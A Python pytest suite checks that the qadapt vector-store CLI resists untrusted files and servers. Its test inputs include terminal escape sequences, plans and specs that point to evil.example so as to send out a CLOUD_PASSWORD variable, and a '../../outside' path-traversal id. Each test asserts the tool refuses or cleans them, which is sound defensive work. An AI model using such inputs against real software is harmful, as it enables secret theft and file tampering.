"""Untrusted files and servers must not read keys, write outside of the state folder, or control the
terminal."""

from __future__ import annotations

import io
import json
import os
import stat
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import pytest

import qadapt as qa
from qadapt.cli import terminal_text
from qadapt.cli.output import Output, table
from qadapt.errors import QadaptError
from qadapt.used_keys import remember

Cli = Callable[..., Any]
ESCAPES = "\x1b]0;title\x07\x1b[2J\x9b31m\x7f\r\u202e"


@pytest.fixture
def notes(tmp_path: Path) -> str:
    """A small collection, written without SciFact."""
    rows = np.random.default_rng(0).standard_normal((300, 16))
    with qa.open(f"edge:{tmp_path / 'data'}") as db:
        payloads: list[dict[str, Any]] = [{"text": f"a{ESCAPES}b"} for _ in rows]
        db.create("notes", dim=16).write(qa.Batch(range(300), {"": rows}, payloads))
    return f"edge:{tmp_path / 'data'}"


# -- control characters --------------------------------------------------------------------------


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("stream", [io.StringIO, Terminal])
def test_no_control_character_reaches_the_terminal(
    stream: type[io.StringIO], monkeypatch: pytest.MonkeyPatch
) -> None:
    shown, told = stream(), stream()
    monkeypatch.setattr(sys, "stdout", shown)
    monkeypatch.setattr(sys, "stderr", told)
    out = Output(color=False, verbose=2)
    text = f"before{ESCAPES}after"
    out.print(text)
    out.print(table(["A", f"B{ESCAPES}"], [[text, text]]), indent=2)
    out.note(text)
    out.warn(text)
    out.error(QadaptError(text, hint=text))
    out.error(ValueError(text))
    for written in (shown.getvalue(), told.getvalue()):
        assert "before" in written and "after" in written
        assert terminal_text.clean(written) == written


def test_json_keeps_values_and_holds_no_control_character(
    cli: Cli, notes: str, tmp_path: Path
) -> None:
    np.save(tmp_path / "q.npy", np.ones((1, 16), "f4"))
    words = ("search", notes, "notes", "--queries", tmp_path / "q.npy", "--payload", "-k", 1)
    ran = cli(*words, "--json")
    assert terminal_text.clean(ran.out) == ran.out
    assert json.dumps(ESCAPES)[1:-1] in json.dumps(ran.json)
    ran = cli(*words)
    assert ran.code == 0 and terminal_text.clean(ran.out) == ran.out


def test_logs_are_clean_and_masked(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    import logging

    remember("hunter2-hunter2")
    with Output(verbose=2).logs():
        logging.getLogger("qadapt").info("answer %s %s", ESCAPES, "hunter2-hunter2")
    written = capsys.readouterr().err
    assert terminal_text.clean(written) == written and "answer" in written
    assert "hunter2" not in written and "***" in written


def test_a_key_that_a_server_repeats_is_masked_in_a_traceback(
    capsys: pytest.CaptureFixture[str],
) -> None:
    remember("hunter2-hunter2")
    try:
        raise ValueError("bad key hunter2-hunter2")
    except ValueError as error:
        Output(verbose=2).error(error)
        Output(verbose=2, json=True).error(error)
    captured = capsys.readouterr()
    assert "hunter2" not in captured.out + captured.err and "***" in captured.err


# -- untrusted files ---------------------------------------------------------------------------


def saved_plan(cli: Cli, notes: str, path: Path, **changes: Any) -> Path:
    assert cli("plan", notes, "notes", "binary", "-o", path).code == 0
    document = json.loads(path.read_text("utf-8"))
    path.write_text(json.dumps({**document, **changes}), "utf-8")
    return path


def test_a_plan_may_not_name_environment_variables_of_the_user(
    cli: Cli, notes: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CLOUD_PASSWORD", "hunter2-hunter2")
    place = "qdrant+https://evil.example:1?key_env=CLOUD_PASSWORD"
    path = saved_plan(cli, notes, tmp_path / "p.json", reopen=place, address=place)
    ran = cli("apply", path, "--yes")
    assert ran.code == 4
    assert "CLOUD_PASSWORD" in ran.err and "evil.example:1" in ran.err
    assert "--allow-key-env CLOUD_PASSWORD" in ran.err and "hunter2" not in ran.err


def test_a_spec_may_not_name_environment_variables_of_the_user(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CLOUD_PASSWORD", "hunter2-hunter2")
    spec = tmp_path / "s.yaml"
    spec.write_text(
        "store: qdrant+https://evil.example:1?key_env=CLOUD_PASSWORD\n"
        "collections: {notes: {quantization: binary}}\n"
    )
    ran = cli("plan", "-f", spec)
    assert ran.code == 4 and "--allow-key-env CLOUD_PASSWORD" in ran.err


def test_a_plan_writes_nothing_outside_of_the_state_folder(
    cli: Cli, notes: str, tmp_path: Path
) -> None:
    path = saved_plan(cli, notes, tmp_path / "p.json", id="../../outside")
    ran = cli("apply", path, "--yes")
    assert ran.code == 2 and "is not a valid plan id" in ran.err
    assert not list(tmp_path.parent.rglob("outside"))


def test_allow_key_env_without_a_file_is_refused(cli: Cli, notes: str) -> None:
    ran = cli("plan", notes, "notes", "binary", "--allow-key-env", "X")
    assert ran.code == 2 and "--allow-key-env has no effect" in ran.err


# -- keys over plain http ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "store", ["weaviate", "elasticsearch", "opensearch", "clickhouse", "chroma", "milvus"]
)
def test_a_key_over_plain_http_needs_a_flag(
    store: str, cli: Cli, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("QADAPT_API_KEY", "hunter2-hunter2")
    place = f"{store}+http://192.0.2.1:9"
    ran = cli("inspect", place)
    assert ran.code == 2 and "refusing to send a key to 192.0.2.1:9" in ran.err
    assert f"use {store}+https://" in ran.err and "--insecure" in ran.err
    assert "QADAPT_INSECURE" not in os.environ
    shown = cli("stores", "--insecure")
    assert shown.code == 0 and "QADAPT_INSECURE" not in os.environ


# -- files of qadapt ------------------------------------------------------------------------------


def test_state_is_readable_by_its_owner_only(
    cli: Cli, notes: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    fresh = tmp_path / "state"
    monkeypatch.setenv("QADAPT_STATE_DIR", str(fresh))
    umask = os.umask(0)
    try:
        assert cli("apply", notes, "notes", "binary:rescore=4", "--yes").code == 0
        with qa.open("qdrant::memory:") as db:  # which has no codes, so they are client-side
            ours = db.create("ours", dim=4)
            ours.write(qa.Batch([1, 2], {"": np.eye(2, 4)}))
            ours.plan("binary", accept="client").apply(yes=True)
    finally:
        os.umask(umask)
    found = [fresh, *fresh.rglob("*")]
    assert len(found) > 5 and list(fresh.rglob("index.json"))
    for path in found:
        mode = stat.S_IMODE(path.stat().st_mode)
        assert mode == (0o700 if path.is_dir() else 0o600), (path, oct(mode))


@pytest.mark.parametrize("command", [("history",), ("plan", "notes", "binary:rescore=4")])
def test_a_state_folder_that_is_a_file(
    command: tuple[str, ...], cli: Cli, notes: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setenv("QADAPT_STATE_DIR", str(tmp_path / "file"))
    name, *rest = command
    ran = cli(name, *([notes, *rest] if rest else []))
    assert ran.code == 1 and "a folder is needed" in ran.err
    assert "QADAPT_STATE_DIR" in ran.err and "bug" not in ran.err


def test_a_full_disk_is_named(cli: Cli, notes: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(_: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    ran = cli("apply", notes, "notes", "binary", "--yes")
    assert ran.code == 1 and "No space left" in ran.err and "free disk space" in ran.err
    assert "bug" not in ran.err
